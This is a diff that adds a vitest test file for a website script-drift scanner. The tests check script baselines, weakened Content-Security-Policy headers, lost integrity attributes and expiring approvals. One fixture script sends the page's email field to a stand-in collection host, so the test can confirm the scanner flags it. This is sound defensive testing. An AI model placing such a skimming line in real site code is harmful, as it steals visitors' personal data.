@@ -1,0 +1,102 @@
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { runCommand, scanSite, siteServer } from '../helpers/site-server.ts';
+import { temporaryFolder } from '../helpers/temporary-folder.ts';
+
+const csp = "script-src 'self'; connect-src 'self'";
+
+/** A site whose scripts and headers can be changed between scans. */
+async function changingSite(): Promise<{ url: string; files: Record<string, string>; policy: string }> {
+  const site = {
+    url: '',
+    policy: csp,
+    files: {
+      '/': '<script src="/app.1a2b3c4d.js" integrity="sha384-x"></script><script>track("a", 1)</script>',
+      '/app.1a2b3c4d.js': "fetch('/api/items');",
+    } as Record<string, string>,
+  };
+  const server = await siteServer((request, response) => {
+    const text = site.files[request.url ?? ''];
+    response.writeHead(text === undefined ? 404 : 200, {
+      'content-type': request.url?.endsWith('.js') === true ? 'text/javascript' : 'text/html',
+      ...(site.policy === '' ? {} : { 'content-security-policy': site.policy }),
+    });
+    response.end(text ?? '');
+  });
+  site.url = server.url;
+  return site;
+}
+
+async function driftOf(url: string, ...args: readonly string[]): Promise<readonly (readonly string[])[]> {
+  const { report } = await scanSite(url, '--browser', 'never', '--no-cache', ...args);
+  return report.findings
+    .filter(({ rule }) => /^script-(?:new|capability|integrity)|^header-weakened/.test(rule))
+    .map(({ rule, severity }) => [rule, severity]);
+}
+
+describe('a script baseline', () => {
+  it('is made by the first scan, and a rebuild that can do no more is no change', async () => {
+    const site = await changingSite();
+    const file = path.join(temporaryFolder({}), 'scripts.json');
+    expect(await driftOf(site.url, '--script-baseline', file)).toEqual([]);
+    const baseline = JSON.parse(readFileSync(file, 'utf8'));
+    expect(baseline).toMatchObject({
+      version: 1,
+      scripts: [
+        { isInline: false, integrity: 'sha384-x', sha384: expect.stringMatching(/^sha384-/) },
+        { isInline: true },
+      ],
+      policies: { 'Content-Security-Policy': expect.stringMatching(/^script-src 'self' 'sha256-/) },
+    });
+    site.files = {
+      '/': '<script src="/app.9f8e7d6c.js" integrity="sha384-y"></script><script>track("a", 2)</script>',
+      '/app.9f8e7d6c.js': "fetch('/api/items'); console.log('new build');",
+    };
+    const before = readFileSync(file, 'utf8');
+    expect(await driftOf(site.url, '--script-baseline', file)).toEqual([]);
+    expect(readFileSync(file, 'utf8')).toBe(before);
+  });
+
+  it('tells what scripts gained, new origins and weaker headers, until they are approved', async () => {
+    const site = await changingSite();
+    const file = path.join(temporaryFolder({}), 'scripts.json');
+    await driftOf(site.url, '--script-baseline', file);
+    site.policy = "script-src 'self' 'unsafe-inline'; connect-src 'self'";
+    site.files = {
+      '/': '<script src="/app.9f8e7d6c.js"></script><script>track("a", 1)</script>',
+      '/app.9f8e7d6c.js':
+        "fetch('https://collect.invalid/x', { method: 'POST', body: document.querySelector('#email').value });",
+    };
+    const drift = [
+      ['script-capability-gain', 'high'],
+      ['header-weakened', 'medium'],
+      ['script-integrity-lost', 'medium'],
+    ];
+    expect(await driftOf(site.url, '--script-baseline', file)).toEqual(drift);
+
+    const baseline = JSON.parse(readFileSync(file, 'utf8'));
+    const about = `${site.url}/ content-security-policy lets 'unsafe-inline' into script-src`;
+    const approve = (until: string): void =>
+      writeFileSync(
+        file,
+        JSON.stringify({ ...baseline, approvals: [{ about, reason: 'old widget', until }] }),
+      );
+    approve('2000-01-01');
+    expect(await driftOf(site.url, '--script-baseline', file)).toEqual(drift);
+    approve('2999-01-01');
+    expect(await driftOf(site.url, '--script-baseline', file)).toEqual(
+      drift.filter(([rule]) => rule !== 'header-weakened'),
+    );
+    await driftOf(site.url, '--script-baseline', file, '--update-script-baseline');
+    expect(await driftOf(site.url, '--script-baseline', file)).toEqual([]);
+    expect(JSON.parse(readFileSync(file, 'utf8')).approvals).toHaveLength(1);
+  });
+
+  it.each(['{}', 'not JSON', '{"version":1,"scripts":3}'])('that is none is wrong use: %s', async (text) => {
+    const file = path.join(temporaryFolder({ 'scripts.json': text }), 'scripts.json');
+    const { code, stderr } = await runCommand(['site', 'http://127.0.0.1:9/', '--script-baseline', file]);
+    expect([code, stderr]).toEqual([2, expect.stringContaining('is no script baseline')]);
+    expect(existsSync(`${file}.new`)).toBe(false);
+  });
+});
